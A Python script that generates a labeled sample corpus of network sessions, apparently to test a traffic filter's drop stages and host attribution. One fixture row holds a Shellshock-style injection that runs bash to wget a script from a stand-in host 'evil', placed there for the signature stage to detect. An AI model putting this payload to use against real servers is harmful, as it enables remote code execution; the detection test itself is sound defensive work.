#!/usr/bin/env python3
"""Regenerates sessions.example.jsonl, a small hand-labeled session corpus
that exercises every funnel stage and every attribution path."""
import base64
import json
import os

OUT = os.path.join(os.path.dirname(__file__), "sessions.example.jsonl")


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


def http_payload(method, path, host, ua, extra=""):
    return (f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n"
            f"User-Agent: {ua}\r\n{extra}\r\n").encode()


def rec(sid, src, dst, port, t, payload, handshake=True, http=None, sni=None,
        pad=0):
    r = {
        "session_id": sid,
        "src_ip": src,
        "dst_ip": dst,
        "dst_port": port,
        "start_time": t,
        "handshake_complete": handshake,
        "client_payload_len": len(payload) + pad,
        "payload_prefix": b64(payload),
    }
    if http:
        r["http"] = {"method": http[0], "path": http[1], "host": http[2],
                     "user_agent": http[3]}
    if sni:
        r["tls_sni"] = sni
    return r


ADDR = "20.30.40.50"  # the listener everyone talks to
rows = []

# -- dropped at the network stage: source sits on the example blocklist
rows.append(rec("s-block-1", "192.0.2.55", ADDR, 80, 100,
                http_payload("GET", "/", "20.30.40.50", "curl/8.1"),
                http=("GET", "/", "20.30.40.50", "curl/8.1")))

# -- dropped at the transport stage: one source fanning out to two ports
for i, port in enumerate((80, 8080)):
    rows.append(rec(f"s-scan-{i}", "198.18.5.9", ADDR, port, 120 + i,
                    b"\x00\x01probe"))

# -- dropped at the session stage
rows.append(rec("s-synonly", "41.77.12.3", ADDR, 443, 150, b"",
                handshake=False))
rows.append(rec("s-empty", "41.77.12.4", ADDR, 80, 160, b""))

# -- dropped at the application stage by builtin signatures
rows.append(rec("s-shell", "93.184.216.40", ADDR, 8080, 200,
                b"() { :; }; /bin/bash -c 'wget http://evil/x.sh'"))
rows.append(rec("s-dnp3", "77.88.5.10", ADDR, 20000, 210,
                b"\x05\x64\x0b\xc4\x01\x00\x02\x00"))
rows.append(rec("s-tds", "77.88.5.11", ADDR, 1433, 220,
                b"\x12\x01\x00\x34" + b"\x00" * 8))
rows.append(rec("s-torrent", "5.6.7.8", ADDR, 6881, 230,
                b"\x13BitTorrent protocol" + b"\x00" * 8))
rows.append(rec("s-bitcoin", "5.6.7.9", ADDR, 8333, 240,
                b"\xf9\xbe\xb4\xd9version"))
rows.append(rec("s-r53", "15.177.10.2", ADDR, 80, 250,
                http_payload("GET", "/health", "20.30.40.50",
                             "Amazon-Route53-Health-Check-Service (ref abc)"),
                http=("GET", "/health", "20.30.40.50",
                      "Amazon-Route53-Health-Check-Service (ref abc)")))

# -- dropped by the user rules shipped next to this corpus
rows.append(rec("s-evilbot", "9.9.9.10", ADDR, 80, 260,
                http_payload("GET", "/", "site.test", "EvilBot/2.0"),
                http=("GET", "/", "site.test", "EvilBot/2.0")))
rows.append(rec("s-telnet", "9.9.9.11", ADDR, 2323, 270, b"login: "))

# -- survivors: latent-configuration traffic for the attribution examples
sns_ua = "Amazon Simple Notification Service Agent"
rows.append(rec("s-sns", "54.239.20.7", ADDR, 443, 300,
                http_payload("POST", "/hooks/pay", "api.bigshop.com", sns_ua),
                http=("POST", "/hooks/pay", "api.bigshop.com", sns_ua),
                sni="api.bigshop.com"))
rows.append(rec("s-web-1", "81.2.69.142", ADDR, 443, 310,
                http_payload("GET", "/v2/items", "api.bigshop.com",
                             "python-requests/2.31"),
                http=("GET", "/v2/items", "api.bigshop.com",
                      "python-requests/2.31")))
rows.append(rec("s-web-2", "81.2.69.143", ADDR, 80, 320,
                http_payload("GET", "/assets/app.js", "img.popularcdn.net",
                             "Mozilla/5.0"),
                http=("GET", "/assets/app.js", "img.popularcdn.net",
                      "Mozilla/5.0")))
rows.append(rec("s-web-3", "81.2.69.144", ADDR, 443, 330,
                http_payload("GET", "/feed.xml", "feeds.nichesite.io",
                             "FeedFetcher/1.0"),
                http=("GET", "/feed.xml", "feeds.nichesite.io",
                      "FeedFetcher/1.0")))
rows.append(rec("s-stale", "52.30.9.14", ADDR, 80, 340,
                http_payload("GET", "/ping", "www.midsize.org",
                             "HealthBot/0.9"),
                http=("GET", "/ping", "www.midsize.org", "HealthBot/0.9")))
rows.append(rec("s-auto", "62.210.3.3", ADDR, 80, 350,
                http_payload("GET", "/", "db12.shard07.longtail.me",
                             "Mozilla/5.0"),
                http=("GET", "/", "db12.shard07.longtail.me", "Mozilla/5.0")))
rows.append(rec("s-ipenc", "62.210.3.4", ADDR, 80, 360,
                http_payload("GET", "/", "20-30-40-50.dustycorner.biz",
                             "FetchBot/1.2"),
                http=("GET", "/", "20-30-40-50.dustycorner.biz",
                      "FetchBot/1.2")))
rows.append(rec("s-ipbn", "3.91.44.8", ADDR, 443, 370,
                http_payload("GET", "/", "ec2-20-30-40-50.compute-1.amazonaws.com",
                             "Go-http-client/1.1"),
                http=("GET", "/", "ec2-20-30-40-50.compute-1.amazonaws.com",
                      "Go-http-client/1.1")))
rows.append(rec("s-literal", "3.91.44.9", ADDR, 80, 380,
                http_payload("GET", "/", "20.30.40.50", "masscan/1.3"),
                http=("GET", "/", "20.30.40.50", "masscan/1.3")))
rows.append(rec("s-wildcard", "3.91.44.10", ADDR, 80, 390,
                http_payload("GET", "/", "20.30.40.50.nip.io", "httpie/3.2"),
                http=("GET", "/", "20.30.40.50.nip.io", "httpie/3.2")))
rows.append(rec("s-sni-only", "100.66.2.9", ADDR, 443, 400,
                b"\x16\x03\x01\x02\x00", sni="api.bigshop.com"))
rows.append(rec("s-nohost", "100.66.2.10", ADDR, 9999, 410,
                b"\x81\x7f\x02\x04binary-ping"))

with open(OUT, "w") as f:
    for r in rows:
        f.write(json.dumps(r, separators=(",", ":")) + "\n")
print(f"wrote {len(rows)} sessions to {OUT}")
